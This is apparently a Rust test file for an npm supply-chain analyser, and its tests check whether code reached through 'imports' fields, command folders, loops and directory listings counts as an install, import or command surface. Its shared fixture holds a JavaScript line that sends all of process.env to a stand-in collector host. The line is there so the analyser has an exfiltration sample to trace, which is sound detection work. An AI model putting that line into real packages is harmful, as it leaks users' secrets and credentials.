//! Which files are reached by names that are not paths: `imports`, folders of commands, loops.

use weir_model::contents::Surface;
use weir_npm::manifest::Manifest;

use super::run;
use crate::{Limits, Package, SourceFile, analyse};

const SENDS: &str = "fetch('https://collector.invalid', { body: JSON.stringify(process.env) })";

/// The surface of the one flow in these files.
fn surface(files: &[(&str, &str)], commands: &[&str], entries: &[(Surface, &str)]) -> Surface {
    let facts = run(files, commands, entries);
    assert_eq!(facts.flows.len(), 1, "{:?}", facts.flows);
    facts.flows[0].surface
}

#[test]
fn names_of_imports_lead_to_files() {
    for (imports, loads) in [
        (r##"{"#core": "./lib/core.js"}"##, "require('#core')"),
        (r##"{"#core": "./lib/core.js"}"##, "import('#core')"),
        (r##"{"#by/*": "./lib/*.js"}"##, "require('#by/core')"),
        (
            r##"{"#core": {"browser": "./page.js", "node": {"require": "./lib/core.js"}}}"##,
            "require('#core')",
        ),
    ] {
        let manifest = format!("{{\"imports\": {imports}}}");
        let files = [
            ("package.json", manifest.as_str()),
            ("index.js", loads),
            ("page.js", ""),
            ("lib/core.js", SENDS),
        ];
        let installs = surface(&files, &["node index.js"], &[]);
        assert_eq!(installs, Surface::Install, "{imports}");
        let imported = surface(&files, &[], &[(Surface::Import, "./index.js")]);
        assert_eq!(imported, Surface::Import, "{imports}");
    }
    // Without the field the name is another package's.
    let files = [("index.js", "require('#core')"), ("lib/core.js", SENDS)];
    assert_eq!(
        surface(&files, &["node index.js"], &[]),
        Surface::Unreferenced
    );
}

#[test]
fn a_folder_of_commands_is_a_surface_where_no_command_is_named() {
    let files = [
        SourceFile {
            path: "cmds/deep/tool.js",
            bytes: SENDS.as_bytes(),
        },
        SourceFile {
            path: "cmds.js",
            bytes: b"",
        },
    ];
    for (folder, bin, expected) in [
        (Some("./cmds"), None, Surface::Command),
        (Some("cmds/"), None, Surface::Command),
        (Some("cmds"), Some("cmds.js"), Surface::Unreferenced),
        (Some("."), None, Surface::Unreferenced),
        (None, None, Surface::Unreferenced),
    ] {
        let manifest = Manifest {
            bin_folder: folder.map(str::to_owned),
            bin: bin
                .map(|path| ("tool".to_owned(), path.to_owned()))
                .into_iter()
                .collect(),
            ..Manifest::default()
        };
        let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
        assert_eq!(facts.flows[0].surface, expected, "{folder:?} {bin:?}");
    }
}

#[test]
fn a_loop_over_names_that_are_written_out_loads_them() {
    for loads in [
        "for (const n of ['a', 'w']) require('./' + n)",
        "for (const n of ['a', 'w']) { if (n) { module.exports[n] = require(`./${n}.js`) } }",
        "for (const n of ['./a.js', './w.js']) import(n)",
        "['a', 'w'].forEach(n => require('./' + n))",
        "module.exports = ['a', 'w'].map(function (n) { return require('./' + n) })",
    ] {
        let files = [("index.js", loads), ("a.js", "1"), ("w.js", SENDS)];
        let found = surface(&files, &[], &[(Surface::Import, "./index.js")]);
        assert_eq!(found, Surface::Import, "{loads}");
    }
    for loads in [
        "for (const n of ['a']) require('./' + n)",
        "for (const n of ['a', 'w']) require('./lib/' + n)",
        "for (const n of names) require('./' + n)",
        "['a', 'w'].forEach(n => console.log('./' + n))",
    ] {
        let files = [("index.js", loads), ("a.js", "1"), ("w.js", SENDS)];
        let found = surface(&files, &[], &[(Surface::Import, "./index.js")]);
        assert_eq!(found, Surface::Unreferenced, "{loads}");
    }
}

#[test]
fn install_loads_what_it_lists() {
    for (loads, file) in [
        (
            "const fs = require('fs'); for (const name of fs.readdirSync(__dirname)) if (/^x/.test(name)) require('./' + name);",
            "xyz.js",
        ),
        (
            "const fs = require('fs'), path = require('path'); const steps = path.join(__dirname, 'steps'); fs.readdirSync(steps).forEach((name) => require(path.join(steps, name)));",
            "steps/xyz.js",
        ),
    ] {
        let files = [("index.js", loads), (file, SENDS)];
        assert_eq!(surface(&files, &["node index.js"], &[]), Surface::Install);
        // Elsewhere it is how plugins are found.
        let imported = surface(&files, &[], &[(Surface::Import, "./index.js")]);
        assert_eq!(imported, Surface::Unreferenced);
    }
    for loads in [
        // Another folder than the one that is listed.
        "const fs = require('fs'); for (const name of fs.readdirSync(__dirname + '/data')) require('./' + name);",
        "const fs = require('fs'); console.log(fs.readdirSync(__dirname)); require('./other');",
    ] {
        let files = [("index.js", loads), ("xyz.js", SENDS)];
        let found = surface(&files, &["node index.js"], &[]);
        assert_eq!(found, Surface::Unreferenced, "{loads}");
    }
}
